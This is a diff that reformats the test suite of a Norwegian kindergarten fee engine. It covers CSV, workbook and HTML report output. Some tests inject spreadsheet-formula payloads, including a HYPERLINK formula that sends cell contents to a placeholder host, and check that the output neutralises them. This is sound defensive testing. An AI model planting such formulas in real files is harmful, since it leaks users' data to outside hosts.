@@ -24,8 +24,21 @@ def demo_out(tmp_path_factory):
 
     demo = Path(__file__).resolve().parent.parent / "fixtures" / "demo"
     out = tmp_path_factory.mktemp("out")
-    res = runner.invoke(app, ["run", str(demo / "innskriving.csv"), "--source", "files", "--tax-data", str(demo / "skatt"),
-                              "--period", "2024-08..2025-07", "--out", str(out)])
+    res = runner.invoke(
+        app,
+        [
+            "run",
+            str(demo / "innskriving.csv"),
+            "--source",
+            "files",
+            "--tax-data",
+            str(demo / "skatt"),
+            "--period",
+            "2024-08..2025-07",
+            "--out",
+            str(out),
+        ],
+    )
     assert res.exit_code == 1, res.output
     return out
 
@@ -76,8 +89,13 @@ def test_workbook_monthly_equals_csv_and_summary_adds_up(demo_out):
     summary = sheet_frame(wb["Oppsummering"])
     assert summary["belop"].sum() == csv["belop"].sum()
     assert summary["barn"].sum() == len(csv)
-    lhs = (summary["ordinaer_pris"] - summary["inntektsreduksjon"] - summary["saerskilte_behov_fritak"]
-           - summary["soeskenmoderasjon"] - summary["gratis_timer"])
+    lhs = (
+        summary["ordinaer_pris"]
+        - summary["inntektsreduksjon"]
+        - summary["saerskilte_behov_fritak"]
+        - summary["soeskenmoderasjon"]
+        - summary["gratis_timer"]
+    )
     assert (lhs == summary["belop"]).all()
     # the same totals computed straight from the CSV
     direct = by_institution_month(csv)
@@ -105,8 +123,12 @@ def test_json_steps_end_at_the_amount(demo_out):
     assert [s["for"] for s in b01["steg"]] == [None, 2000, 1636]
     assert "§ 3b" in b01["steg"][1]["hjemmel"]
     # the parameter values each step used: 6 % of 300 000 over 11 months = 1 636.36 → 1 636 per month
-    assert b01["steg"][1]["verdier"] == {"husholdningsinntekt": 300000, "andel_prosent": 6, "fakturerte_maaneder": 11,
-                                         "tak_per_maaned": 1636}
+    assert b01["steg"][1]["verdier"] == {
+        "husholdningsinntekt": 300000,
+        "andel_prosent": 6,
+        "fakturerte_maaneder": 11,
+        "tak_per_maaned": 1636,
+    }
     assert b01["steg"][2]["verdier"]["timer_i_plassen"] == 41
     for d in doc["vedtak"]:
         if d["steg"][0]["regel"] != "ikke_fakturert":
@@ -124,7 +146,7 @@ def test_report_is_self_contained(demo_out):
 
 def test_report_says_what_to_do_in_office_language(demo_out):
     text = (demo_out / "rapport.html").read_text(encoding="utf-8")
-    todo = text[text.index("<h2>Dette må gjøres</h2>"):text.index("<h2>Reduksjoner</h2>")]
+    todo = text[text.index("<h2>Dette må gjøres</h2>") : text.index("<h2>Reduksjoner</h2>")]
     assert todo.count("<b>Gjør dette:</b>") >= 5
     assert "3 rader i innskrivingsfilen er avvist" in todo
     assert "3 barn i 3 husholdninger venter på saksbehandler" in todo
@@ -135,8 +157,14 @@ def test_report_says_what_to_do_in_office_language(demo_out):
 def test_report_counts_children_and_households_apart():
     from fee_engine.output.summary import reductions
 
-    monthly = pd.DataFrame({"barn_id": ["B3", "B5", "B6", "B6", "B9"], "tilbud": ["barnehage"] * 5,
-                            "husholdning_id": ["H2", "H3", "H3", "H3", "H9"], "maaned": ["2024-10"] * 4 + ["2024-11"]})
+    monthly = pd.DataFrame(
+        {
+            "barn_id": ["B3", "B5", "B6", "B6", "B9"],
+            "tilbud": ["barnehage"] * 5,
+            "husholdning_id": ["H2", "H3", "H3", "H3", "H9"],
+            "maaned": ["2024-10"] * 4 + ["2024-11"],
+        }
+    )
     from fee_engine.steg import BIT
 
     monthly["flagg"] = [BIT["soesken_2"], BIT["soesken_2"], BIT["soesken_3"], BIT["soesken_3"], 0]
@@ -150,12 +178,32 @@ def test_report_units_in_natural_order_with_a_total_line():
     from fee_engine.output.report import natural_key, per_unit
 
     assert sorted(["Enhet 10", "Enhet 2", "enhet 1", "Enhet 2b"], key=natural_key) == [
-        "enhet 1", "Enhet 2", "Enhet 2b", "Enhet 10"]
-    amounts = {c: [100, 200, 300, 400] for c in ("ordinaer_pris", "inntektsreduksjon", "saerskilte_behov_fritak",
-                                                 "soeskenmoderasjon", "gratis_timer", "belop")}
-    monthly = pd.DataFrame({"kommunenummer": ["0301"] * 4, "institusjon": ["Enhet 10", "Enhet 2", "Enhet 2", "Enhet 9"],
-                            "tilbud": ["barnehage"] * 4, "barn_id": ["A", "A", "B", "A"], "maaned": ["2024-10"] * 4,
-                            **amounts})
+        "enhet 1",
+        "Enhet 2",
+        "Enhet 2b",
+        "Enhet 10",
+    ]
+    amounts = {
+        c: [100, 200, 300, 400]
+        for c in (
+            "ordinaer_pris",
+            "inntektsreduksjon",
+            "saerskilte_behov_fritak",
+            "soeskenmoderasjon",
+            "gratis_timer",
+            "belop",
+        )
+    }
+    monthly = pd.DataFrame(
+        {
+            "kommunenummer": ["0301"] * 4,
+            "institusjon": ["Enhet 10", "Enhet 2", "Enhet 2", "Enhet 9"],
+            "tilbud": ["barnehage"] * 4,
+            "barn_id": ["A", "A", "B", "A"],
+            "maaned": ["2024-10"] * 4,
+            **amounts,
+        }
+    )
     units, foot = per_unit(monthly)
     assert units["institusjon"].tolist() == ["Enhet 2", "Enhet 9", "Enhet 10"]
     assert units["barn"].tolist() == [2, 1, 1] and foot["barn"] == 2  # A counts once in the total
@@ -184,24 +232,40 @@ def test_report_charts_leave_room_for_every_label_and_value():
 def test_report_renders_in_headless_chromium(demo_out, tmp_path):
     shot = tmp_path / "rapport.png"
     subprocess.run(
-        ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
-         "--disable-background-networking", "--disable-component-update", "--disable-sync",
-         f"--user-data-dir={tmp_path / 'profile'}", "--window-size=1200,1800", f"--screenshot={shot}",
-         (demo_out / "rapport.html").as_uri()],
-        check=True, capture_output=True, timeout=120,
+        [
+            "chromium",
+            "--headless",
+            "--no-sandbox",
+            "--disable-gpu",
+            "--disable-quic",
+            "--no-first-run",
+            "--disable-background-networking",
+            "--disable-component-update",
+            "--disable-sync",
+            f"--user-data-dir={tmp_path / 'profile'}",
+            "--window-size=1200,1800",
+            f"--screenshot={shot}",
+            (demo_out / "rapport.html").as_uri(),
+        ],
+        check=True,
+        capture_output=True,
+        timeout=120,
     )
     data = shot.read_bytes()
     assert data[:8] == b"\x89PNG\r\n\x1a\n" and len(data) > 50_000  # a page with content, not a blank image
 
 
 @pytest.mark.parametrize("dialect", ["excel", "maskin"])
-@pytest.mark.parametrize("fixture,note", [
-    ("demo", '"a, ""b"" c"'),  # comma and quotes: quoted by the CSV writer, fast path
-    ("demo", '"=HYPERLINK(""http://x"",""y"")"'),  # a formula: neutralised in the Excel dialect, fast path
-    ("demo", '"a\nb"'),  # a line break inside a value: the fallback
-    ("demo", '"a\rb"'),  # a lone carriage return: the fallback, and quoted
-    ("kommune_syntetisk", None),  # partial placements (months as runs of one) and siblings
-])
+@pytest.mark.parametrize(
+    "fixture,note",
+    [
+        ("demo", '"a, ""b"" c"'),  # comma and quotes: quoted by the CSV writer, fast path
+        ("demo", '"=HYPERLINK(""http://x"",""y"")"'),  # a formula: neutralised in the Excel dialect, fast path
+        ("demo", '"a\nb"'),  # a line break inside a value: the fallback
+        ("demo", '"a\rb"'),  # a lone carriage return: the fallback, and quoted
+        ("kommune_syntetisk", None),  # partial placements (months as runs of one) and siblings
+    ],
+)
 def test_fast_monthly_csv_is_byte_identical(fixture, note, dialect, tmp_path, monkeypatch):
     from pathlib import Path
 
@@ -215,8 +279,15 @@ def test_fast_monthly_csv_is_byte_identical(fixture, note, dialect, tmp_path, mo
         rows = [text[0] + ";merknad"] + [line + (f";{note}" if i == 1 else ";x") for i, line in enumerate(text[1:], 1)]
         enrollment = tmp_path / "inn.csv"
         enrollment.write_bytes(("\n".join(rows) + "\n").encode("utf-8"))
-    comp = batch.compute(batch.RunOptions(enrollment=enrollment, out=tmp_path, period=(dt.date(2024, 8, 1), dt.date(2025, 7, 1)),
-                                          source="files", tax_data=root / "skatt"))
+    comp = batch.compute(
+        batch.RunOptions(
+            enrollment=enrollment,
+            out=tmp_path,
+            period=(dt.date(2024, 8, 1), dt.date(2025, 7, 1)),
+            source="files",
+            tax_data=root / "skatt",
+        )
+    )
     extra = comp.enrollment.extra_columns
     csv_out.write_csv(forklaring.monthly(comp.runs, extra), tmp_path / "slow.csv", dialect)
     fell_back = []
@@ -225,8 +296,13 @@ def test_fast_monthly_csv_is_byte_identical(fixture, note, dialect, tmp_path, mo
     csv_out.write_monthly_from_runs(comp.runs, extra, tmp_path / "fast.csv", dialect)
     assert (tmp_path / "fast.csv").read_bytes() == (tmp_path / "slow.csv").read_bytes()
     assert bool(fell_back) == (note is not None and ("\n" in note or "\r" in note))
-    back = pd.read_csv(tmp_path / "fast.csv", sep=";" if dialect == "excel" else ",",
-                       encoding="utf-8-sig" if dialect == "excel" else "utf-8", dtype=str, keep_default_na=False)
+    back = pd.read_csv(
+        tmp_path / "fast.csv",
+        sep=";" if dialect == "excel" else ",",
+        encoding="utf-8-sig" if dialect == "excel" else "utf-8",
+        dtype=str,
+        keep_default_na=False,
+    )
     assert len(back) == len(forklaring.monthly(comp.runs, extra))  # every record read back whole
     if note:
         first = back.loc[back["barn_id"] == "B01", "merknad"].iloc[0]
@@ -238,8 +314,12 @@ def test_fast_monthly_csv_is_byte_identical(fixture, note, dialect, tmp_path, mo
 def test_csv_dialects_bytes(tmp_path):
     from fee_engine.output.csv import write_csv
 
-    df = pd.DataFrame({"tekst": ["=1+1", "+47", "-x", "@SUM(A1)", "\tfane", "vanlig", "a;b", "cr\rinne"],
-                       "tall": [-5, 1, 2, 3, 4, 5, 6, 7]})
+    df = pd.DataFrame(
+        {
+            "tekst": ["=1+1", "+47", "-x", "@SUM(A1)", "\tfane", "vanlig", "a;b", "cr\rinne"],
+            "tall": [-5, 1, 2, 3, 4, 5, 6, 7],
+        }
+    )
     write_csv(df, tmp_path / "e.csv")
     raw = (tmp_path / "e.csv").read_bytes()
     assert raw.startswith(b"\xef\xbb\xbftekst;tall\r\n'=1+1;-5\r\n'+47;1\r\n'-x;2\r\n'@SUM(A1);3\r\n'\tfane;4\r\n")
@@ -259,14 +339,30 @@ def test_formula_in_the_input_stays_text_in_the_workbook_and_csv(tmp_path):
     demo = Path(__file__).resolve().parent.parent / "fixtures" / "demo"
     evil = '=HYPERLINK("http://example.invalid/?x="&A1,"Klikk")'
     lines = (demo / "innskriving.csv").read_text(encoding="utf-8").splitlines()[:16]
-    rows = [lines[0] + ";merknad"] + [line.replace("Solsikken barnehage", "+Solsikken") + ';"' + evil.replace('"', '""')
-                                      + '"' for line in lines[1:]]
+    rows = [lines[0] + ";merknad"] + [
+        line.replace("Solsikken barnehage", "+Solsikken") + ';"' + evil.replace('"', '""') + '"' for line in lines[1:]
+    ]
     src = tmp_path / "inn.csv"
     src.write_text("\n".join(rows) + "\n", encoding="utf-8")
     for dialect in ("excel", "maskin"):
         out = tmp_path / dialect
-        res = runner.invoke(app, ["run", str(src), "--source", "files", "--tax-data", str(demo / "skatt"), "--period",
-                                  "2024-08..2025-07", "--out", str(out), "--csv-dialect", dialect])
+        res = runner.invoke(
+            app,
+            [
+                "run",
+                str(src),
+                "--source",
+                "files",
+                "--tax-data",
+                str(demo / "skatt"),
+                "--period",
+                "2024-08..2025-07",
+                "--out",
+                str(out),
+                "--csv-dialect",
+                dialect,
+            ],
+        )
         assert res.exit_code == 0, res.output
         sep, enc = (";", "utf-8-sig") if dialect == "excel" else (",", "utf-8")
         m = pd.read_csv(out / "maanedlig.csv", sep=sep, encoding=enc, dtype=str, keep_default_na=False)
